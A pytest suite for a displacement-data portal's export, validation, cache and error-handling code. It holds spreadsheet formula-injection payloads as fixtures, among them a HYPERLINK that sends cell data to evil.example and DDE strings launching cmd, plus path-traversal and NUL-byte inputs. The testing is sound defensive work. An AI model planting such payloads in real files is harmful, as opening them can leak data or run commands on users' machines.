"""Downloads that cannot harm who opens them, parameters that cannot fill the disk, errors that stay errors.

Records holding formula-like text come in through real imports (the library's and the API's); the files come
back out through the library, the CLI and a running portal, and are read back with openpyxl, the csv module
and libhxl. The portal here runs with a small export cache budget to watch its directory on disk.
"""

from __future__ import annotations

import csv
import io
import logging
import os
import re
import subprocess
from pathlib import Path

import httpx
import hxl
import openpyxl
import pycountry
import pytest

from cli_run import passage_cli
from dtm_rows import NGA, api_rows, write_csv
from passage.ingest import import_files
from passage.publish import get_table, write
from passage.publish.formats import FORMULA_PREFIXES, SafeCsvWriter, neutralise

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Nigeria")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS_TEXT = "-5"
SEMICOLON = "Borno;=1+1"
TAB = "\tTabbed"
ERROR_TEXT = "#N/A"
DANGEROUS = [AT, PLUS, MINUS_TEXT, SEMICOLON, TAB, ERROR_TEXT]
BUDGET = 40_000
HEADERS = {"x-content-type-options": "nosniff", "x-frame-options": "DENY", "referrer-policy": "same-origin"}


def risky_rows(rows=NGA, iso3="NGA") -> list[dict]:
    """DTM rows whose free-text fields hold what a spreadsheet would run: the operation on every row, the
    origin on one row each."""
    out = api_rows(iso3, rows)
    for i, r in enumerate(out):
        r["operation"] = HYPERLINK
        r["idpOriginAdmin1Name"] = DANGEROUS[i % len(DANGEROUS)]
    return out


@pytest.fixture
def risky(store, tmp_path):
    result = import_files(store, "dtm", [write_csv(tmp_path / "nga.csv", risky_rows())], user="test")
    assert result.status == "committed", result.report.findings
    stored = get_table(store, "dtm_idps").data
    assert set(stored.column("operation").to_pylist()) == {HYPERLINK}  # the import kept the text as it came
    assert set(DANGEROUS) <= set(stored.column("idpOriginAdmin1Name").to_pylist())
    return store


def xlsx_cells(content: bytes | Path) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    return [list(row) for row in book.worksheets[0].iter_rows()]


def assert_no_live_cells(rows: list[list]) -> dict[str, list]:
    """No formula or error cell anywhere; returns the columns by header."""
    types = {c.data_type for row in rows for c in row}
    assert "f" not in types and "e" not in types, types
    header = [c.value for c in rows[0]]
    return {h: [row[i].value for row in rows[1:]] for i, h in enumerate(header)}


# ---- the library ---------------------------------------------------------------------------------------

def test_neutralise_touches_text_only():
    assert neutralise(HYPERLINK) == "'" + HYPERLINK
    assert [neutralise(t) for t in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1")] == \
        ["'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]
    assert [neutralise(v) for v in (-5, -2.5, 0, None, "Borno", "", "5-1", "a=1")] == \
        [-5, -2.5, 0, None, "Borno", "", "5-1", "a=1"]
    buf = io.StringIO()
    SafeCsvWriter(buf).writerow([SEMICOLON, 'say "hi"', "a,b", "two\nlines", -5, 2.5, None, "-5", "plain"])
    assert buf.getvalue() == '"Borno;=1+1","say ""hi""","a,b","two\nlines",-5,2.5,,\'-5,plain\n'
    assert next(csv.reader(io.StringIO(buf.getvalue())))[:4] == [SEMICOLON, 'say "hi"', "a,b", "two\nlines"]


def test_xlsx_types_text_as_text(risky, tmp_path):
    path = tmp_path / "dtm.xlsx"
    write(get_table(risky, "dtm_idps"), "xlsx", path)
    cols = assert_no_live_cells(xlsx_cells(path))
    assert set(cols["operation"]) == {HYPERLINK}  # intact: no quote added inside a workbook
    assert set(DANGEROUS) <= set(cols["idpOriginAdmin1Name"])
    assert sorted(cols["numPresentIdpInd"]) == sorted(r[8] for r in NGA)
    assert all(isinstance(v, int) for v in cols["numPresentIdpInd"])


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_csv_and_hxl_neutralised_on_request(risky, tmp_path, fmt):
    table = get_table(risky, "dtm_idps")
    safe, raw = tmp_path / f"safe.{fmt}", tmp_path / f"raw.{fmt}"
    write(table, fmt, safe, neutralise_formulas=True)
    write(table, fmt, raw)
    if fmt == "hxl":  # libhxl still finds the hashtag row and reads the neutralised text
        data = hxl.data(str(safe), hxl.InputOptions(allow_local=True))
        rows = [{"operation": r.get("#operation+name"), "origin": r.get("#adm1+name+origin"),
                 "idps": r.get("#affected+idps-m-f")} for r in data]
    else:
        rows = [{"operation": r["operation"], "origin": r["idpOriginAdmin1Name"], "idps": r["numPresentIdpInd"]}
                for r in csv.DictReader(safe.open(encoding="utf-8", newline=""))]
    assert {r["operation"] for r in rows} == {"'" + HYPERLINK}
    origins = {r["origin"] for r in rows}
    assert {"'" + AT, "'" + PLUS, "'" + MINUS_TEXT, "'" + TAB, SEMICOLON, ERROR_TEXT} <= origins
    assert sorted(int(r["idps"]) for r in rows) == sorted(r[8] for r in NGA)
    assert '"Borno;=1+1"' in safe.read_text(encoding="utf-8")  # quoted: a ';' spreadsheet keeps it one cell
    # Without the option the file holds the values exactly (pipelines read it back).
    raw_ops = {r["operation"] for r in csv.DictReader(raw.open(encoding="utf-8", newline=""))
               if not r["operation"].startswith("#")}
    assert raw_ops == {HYPERLINK}


def test_negative_numbers_stay_numbers(risky, tmp_path):
    """idps_change holds negative numbers (Abadam lost 100 IDPs): no quote in CSV, numbers in XLSX."""
    table = get_table(risky, "idps_change")
    buf = io.StringIO()
    write(table, "csv", None, buf, neutralise_formulas=True)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    change = {(r["_place_code"], r["round_number"]): r["change"] for r in rows}
    assert change[("NG008001", "41")] == "-100" and change[("NG008", "41")] == "400"
    write(table, "xlsx", tmp_path / "change.xlsx")
    cols = assert_no_live_cells(xlsx_cells(tmp_path / "change.xlsx"))
    assert -100 in cols["change"] and -25.0 in cols["change_pct"]


def passage(store_path, *args) -> subprocess.CompletedProcess:
    return passage_cli("--db", store_path, "-q", *args)


def test_cli_export_neutralises_on_request(store_path, tmp_path):
    path = write_csv(tmp_path / "nga.csv", risky_rows())
    assert passage(store_path, "import", "dtm", str(path)).returncode == 0
    assert passage(store_path, "publish", "dtm_idps", "--country", "NGA").returncode == 0  # exports: what is published
    safe = passage(store_path, "export", "dtm_idps", "--format", "csv", "--neutralise-formulas")
    assert safe.returncode == 0, safe.stderr
    rows = list(csv.DictReader(io.StringIO(safe.stdout)))
    assert {r["operation"] for r in rows} == {"'" + HYPERLINK}
    assert "'" + PLUS in {r["idpOriginAdmin1Name"] for r in rows}
    hxl_out = tmp_path / "safe.hxl.csv"
    assert passage(store_path, "export", "dtm_idps", "--format", "hxl", "--neutralise-formulas",
                   "-o", str(hxl_out)).returncode == 0
    assert {r.get("#operation+name") for r in hxl.data(str(hxl_out), hxl.InputOptions(allow_local=True))} == \
        {"'" + HYPERLINK}
    raw = passage(store_path, "export", "dtm_idps", "--format", "csv")
    assert {r["operation"] for r in csv.DictReader(io.StringIO(raw.stdout))} == {HYPERLINK}
    xlsx_out = tmp_path / "out.xlsx"
    assert passage(store_path, "export", "dtm_idps", "--format", "xlsx", "-o", str(xlsx_out)).returncode == 0
    assert set(assert_no_live_cells(xlsx_cells(xlsx_out))["operation"]) == {HYPERLINK}
    wrong = passage(store_path, "export", "dtm_idps", "--format", "json", "--neutralise-formulas")
    assert wrong.returncode == 2 and "csv and hxl" in wrong.stderr


# ---- the portal ------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def small_portal(seeded_portal_store, tmp_path_factory):
    """A running portal over a private copy of the seeded store, its export cache limited to BUDGET bytes."""
    from passage.settings import Settings
    from portal import copy_store, serve

    path, accounts = seeded_portal_store
    running = serve(str(copy_store(path, tmp_path_factory.mktemp("small"))), accounts,
                    settings=Settings(cache={"export_bytes": BUDGET}))
    yield running
    running.stop()


def state(running):
    return running.server.config.app.state.portal


def disk_usage(directory: Path) -> tuple[int, int]:
    """(files, bytes) under the export directory, as the disk has them."""
    files = [e for e in os.scandir(directory) if e.is_file()]
    return len(files), sum(e.stat().st_size for e in files)


def api_import(running, user: str, path: Path) -> dict:
    client = running.client(user)
    csrf = re.search(r'X-CSRF-Token": "([^"]+)"', client.get("/").text).group(1)
    with path.open("rb") as fh:
        r = client.post("/api/v1/imports", data={"kind": "dtm"}, files={"file": (path.name, fh, "text/csv")},
                        headers={"X-CSRF-Token": csrf})
    assert r.status_code == 200, r.text[:1000]
    return r.json()


def test_portal_downloads_hold_no_live_formulas(small_portal, tmp_path):
    abadam = [(2, "NG008", "Borno", "NG008001", "Abadam", 90, "2024-09-30", "Conflict", 1000 + i, None, None)
              for i in range(len(DANGEROUS))]
    rows = risky_rows(abadam)
    for i, r in enumerate(rows):
        r["displacementReason"] = ["Conflict", "Natural disaster"][i % 2] + f" {i}"
    assert api_import(small_portal, "editor-nga", write_csv(tmp_path / "abadam-r90.csv", rows))["inserted"] == 6
    editor = small_portal.client("editor-nga")  # sees the unpublished round in Nigeria
    params = {"country": "NGA"}

    for path in ("/download/dtm_idps", "/api/v1/exports/dtm_idps"):
        as_csv = editor.get(path, params={**params, "format": "csv"})
        assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
        round90 = [r for r in csv.DictReader(io.StringIO(as_csv.text)) if r["roundNumber"] == "90"]
        assert {r["operation"] for r in round90} == {"'" + HYPERLINK}
        assert {r["idpOriginAdmin1Name"] for r in round90} == \
            {"'" + AT, "'" + PLUS, "'" + MINUS_TEXT, SEMICOLON, "'" + TAB, ERROR_TEXT}
        assert sorted(int(r["numPresentIdpInd"]) for r in round90) == list(range(1000, 1006))
        assert '"Borno;=1+1"' in as_csv.text
        cells = [v for row in csv.reader(io.StringIO(as_csv.text)) for v in row]
        assert not [v for v in cells if v.startswith(FORMULA_PREFIXES)]  # no negative numbers in this table

        as_hxl = editor.get(path, params={**params, "format": "hxl"})
        data = hxl.data(io.BytesIO(as_hxl.content), hxl.InputOptions(allow_local=True))
        round90 = [r for r in data if r.get("#round+code") == "90"]
        assert {r.get("#operation+name") for r in round90} == {"'" + HYPERLINK}
        assert "'" + AT in {r.get("#adm1+name+origin") for r in round90}

        as_xlsx = editor.get(path, params={**params, "format": "xlsx"})
        cols = assert_no_live_cells(xlsx_cells(as_xlsx.content))
        at90 = [i for i, rnd in enumerate(cols["roundNumber"]) if rnd == 90]
        assert {cols["operation"][i] for i in at90} == {HYPERLINK}
        assert {cols["idpOriginAdmin1Name"][i] for i in at90} == set(DANGEROUS)
        assert sorted(cols["numPresentIdpInd"][i] for i in at90) == list(range(1000, 1006))

    # The API's CSV answers (records, indicators, travel tables) follow the same rule.
    records = editor.get("/api/v1/datasets/dtm_idps/records",
                         params={"format": "csv", "place": "NG008001", "round": 90, "limit": 100})
    got = list(csv.DictReader(io.StringIO(records.text)))
    assert len(got) == 6 and {r["operation"] for r in got} == {"'" + HYPERLINK}
    assert sorted(int(r["num_present_idp_ind"]) for r in got) == list(range(1000, 1006))


def error_of(response: httpx.Response, status: int, code: str) -> None:
    assert response.status_code == status, response.text[:300]
    assert response.headers["content-type"].startswith("application/json")
    assert response.json()["error"]["code"] == code, response.text[:300]


def test_download_parameters_are_checked(small_portal):
    public = small_portal.client()
    for path in ("/download/dtm_idps", "/api/v1/exports/dtm_idps"):
        error_of(public.get(path, params={"country": "ZZZ"}), 400, "usage.country")
        error_of(public.get(path, params={"format": "pdf"}), 400,
                 "usage.format" if path.startswith("/download") else "usage")
        error_of(public.get(f"{path}?country=%00"), 400, "usage.nul")
        assert public.get(path, params={"country": "AFG"}).status_code == 200  # known, if empty for the public
    error_of(public.get("/download/dtm_idps", params={"country": "N" * 5000}), 400, "usage.country")
    error_of(public.get("/download/nosuch"), 404, "not_found")
    page = public.get("/download/dtm_idps", params={"country": "QQQ"}, headers={"Accept": "text/html"})
    assert page.status_code == 400 and page.headers["content-type"].startswith("text/html")
    # Lower case is read as upper case.
    assert public.get("/download/travel_measures", params={"country": "tcd"}).headers[
        "content-disposition"].endswith('filename="travel_measures_TCD.csv"')


def test_export_cache_stays_within_its_budget(small_portal, tmp_path):
    portal = state(small_portal)
    public = small_portal.client()
    before = disk_usage(portal.export_dir)
    for bad in ("ZZZ", "A1B", "nga2", "%00", "../../etc", "X" * 300):
        assert public.get("/download/idps_latest", params={"country": bad}).status_code == 400
    assert disk_usage(portal.export_dir) == before  # rejected requests leave nothing

    codes = [c.alpha_3 for c in pycountry.countries][:40] + ["NGA", "SSD", "TCD"]
    served = 0
    for code in codes:
        for fmt in ("csv", "json", "xlsx"):
            r = public.get("/download/idps_latest", params={"country": code, "format": fmt})
            assert r.status_code == 200, r.text[:300]
            served += len(r.content)
            files, size = disk_usage(portal.export_dir)
            assert size <= BUDGET, (code, fmt, size)
            assert files == len(portal.exports) and size == portal.exports.size
    assert served > 2 * BUDGET  # the cache had to let files go, and took them off the disk
    assert 0 < disk_usage(portal.export_dir)[0] < len(codes) * 3
    # A file bigger than the whole budget is served in full and not kept.
    big = public.get("/download/dtm_idps", params={"format": "csv"})
    assert big.status_code == 200 and len(big.content) > BUDGET
    assert int(big.headers["content-length"]) == len(big.content)
    assert disk_usage(portal.export_dir)[1] <= BUDGET
    # The most recent file is served from the cache: the same bytes, no new file.
    files = disk_usage(portal.export_dir)[0]
    again = public.get("/download/idps_latest", params={"country": "TCD", "format": "json"})
    assert again.status_code == 200 and disk_usage(portal.export_dir)[0] == files
    # New data: the older generation's files go at once.
    tcd = api_rows("TCD", [(1, "TD07", "Lac", "", "", 95, "2024-10-31", "Conflict", 7, None, None)])
    api_import(small_portal, "editor-tcd", write_csv(tmp_path / "lac-r95.csv", tcd))
    assert public.get("/download/idps_latest", params={"country": "NGA"}).status_code == 200
    assert disk_usage(portal.export_dir)[0] == 1


# ---- errors: never a 500 from bad input, headers on every answer ------------------------------------------

@pytest.mark.parametrize("dataset", ["travel_measures", "travel_levels", "points_of_entry"])
@pytest.mark.parametrize("what", ["map", "series"])
def test_country_pages_of_datasets_without_them_are_usage_errors(small_portal, dataset, what):
    r = small_portal.client().get(f"/api/v1/countries/TCD/{what}", params={"dataset": dataset})
    error_of(r, 400, "usage.dataset")


@pytest.mark.parametrize("path", [
    "/api/v1/documents?q=%00", "/api/v1/places?q=%00", "/api/v1/datasets/dtm_idps/records?country=%00",
    "/api/v1/datasets/%00", "/api/v1/datasets/dtm_idps/records?cursor=a%00b", "/api/v1/countries/NGA/map?dataset=%00",
    "/download/dtm_idps?country=%00", "/download/%00", "/documents?q=%00", "/records/dtm_idps/%00",
    "/search?q=x%00y"])
def test_nul_bytes_are_usage_errors(small_portal, path):
    public = small_portal.client()
    error_of(public.get(path), 400, "usage.nul")
    page = public.get(path, headers={"Accept": "text/html"})
    assert page.status_code == 400
    if not path.startswith("/api/"):
        assert page.headers["content-type"].startswith("text/html") and "\x00" not in page.text


def test_nul_bytes_in_forms_are_usage_errors(small_portal):
    public = small_portal.client()
    error_of(public.post("/login", data={"user_name": "admin\x00", "password": "x", "csrf_token": "x"}),
             400, "usage.nul")


@pytest.fixture(scope="module")
def boom(small_portal):
    """A route that fails the way a bug would, to see what the catch-all handler answers."""
    app = small_portal.server.config.app

    def fail():
        raise RuntimeError("secret detail of the failure")

    app.add_api_route("/api/v1/test-boom", fail)
    app.add_api_route("/test-boom", fail)
    return small_portal


def assert_secured(response: httpx.Response) -> None:
    for name, value in HEADERS.items():
        assert response.headers.get(name) == value, (response.request.url, response.status_code, name)
    assert "frame-ancestors 'none'" in response.headers.get("content-security-policy", ""), response.request.url


def test_unexpected_errors_answer_through_the_error_model(boom, caplog):
    public = boom.client()
    with caplog.at_level(logging.ERROR, logger="passage.web"):
        r = public.get("/api/v1/test-boom")
    error_of(r, 500, "internal")
    assert "secret detail" not in r.text
    assert_secured(r)
    assert any("/api/v1/test-boom" in rec.getMessage() and rec.exc_info for rec in caplog.records)
    page = public.get("/test-boom", headers={"Accept": "text/html"})
    assert page.status_code == 500 and page.headers["content-type"].startswith("text/html")
    assert "secret detail" not in page.text
    assert_secured(page)


def test_security_headers_on_every_error(boom):
    public, viewer = boom.client(), boom.client("viewer-ssd")
    html = {"Accept": "text/html"}
    answers = {
        "404 api": public.get("/api/v1/no/such/route"),
        "404 page": public.get("/no/such/page", headers=html),
        "404 static": public.get("/static/no-such-file.js"),
        "404 dataset": public.get("/api/v1/datasets/nosuch"),
        "405": public.delete("/api/v1/me"),
        "400 validation": public.get("/api/v1/datasets/dtm_idps/records", params={"limit": 0}),
        "400 usage": public.get("/download/dtm_idps", params={"country": "ZZZ"}),
        "400 usage page": public.get("/download/dtm_idps", params={"country": "ZZZ"}, headers=html),
        "400 nul": public.get("/api/v1/documents?q=%00"),
        "400 dataset": public.get("/api/v1/countries/TCD/map", params={"dataset": "travel_measures"}),
        "401": public.get("/api/v1/tokens"),
        "403": viewer.get("/api/v1/imports"),
        "500": public.get("/api/v1/test-boom"),
        "500 page": public.get("/test-boom", headers=html),
        "200 download": public.get("/download/idps_latest", params={"country": "TCD"}),
    }
    for name, r in answers.items():
        assert str(r.status_code) == name.split()[0], (name, r.status_code, r.text[:200])
        assert_secured(r)


def test_the_formats_of_one_table_are_written_from_one_read(seeded_portal_store, tmp_path, monkeypatch):
    """A reader taking CSV, then XLSX, then Parquet of one table: the store is read once, and every file
    holds the same rows."""
    import pyarrow.parquet as pq
    from openpyxl import load_workbook

    from passage.web import service
    from portal import copy_store, serve

    reads = []
    real = service.readable_table

    def counted(*args, **kwargs):
        reads.append(args[1])
        return real(*args, **kwargs)

    monkeypatch.setattr(service, "readable_table", counted)
    path, accounts = seeded_portal_store
    running = serve(str(copy_store(path, tmp_path)), accounts)
    try:
        c = running.client(None)
        body = {fmt: c.get(f"/api/v1/exports/idps_by_sex?format={fmt}").content for fmt in ("csv", "xlsx", "parquet")}
        c.close()
    finally:
        running.stop()
    assert reads == ["idps_by_sex"], reads
    rows = {"csv": len(body["csv"].decode("utf-8").strip().splitlines()) - 1,
            "xlsx": load_workbook(io.BytesIO(body["xlsx"]), read_only=True).active.max_row - 1,
            "parquet": pq.read_table(io.BytesIO(body["parquet"])).num_rows}
    assert len(set(rows.values())) == 1 and rows["csv"] > 0, rows
